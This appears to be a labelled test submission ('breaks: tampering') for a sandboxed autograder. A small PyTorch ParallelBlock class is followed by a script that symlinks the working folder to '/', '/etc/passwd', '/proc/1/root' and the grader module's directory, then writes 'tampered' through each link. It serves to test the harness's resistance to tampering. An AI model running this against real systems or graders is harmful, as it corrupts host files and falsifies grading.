"""Makes links in its working folder to everything outside, and writes through them.

exercise: parallel-block
points: 4
breaks: tampering
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.nets = [net1, net2]

    def forward(self, X):
        return torch.cat([net(X) for net in self.nets], dim=-1)


import os

import d2l_ch3

for number, target in enumerate(("/", "/etc", "/etc/passwd", "/proc/1/root", "..", os.path.dirname(d2l_ch3.__file__))):
    os.symlink(target, f"link{number}")
    for path in (f"link{number}", f"link{number}/written", f"link{number}/tmp/../written"):
        try:
            with open(path, "a") as file:
                file.write("tampered")
            print("the attack worked: wrote through", path, target) if target not in ("..",) else None
        except OSError:
            pass
    try:
        os.link(target, f"hard{number}")
    except OSError:
        pass
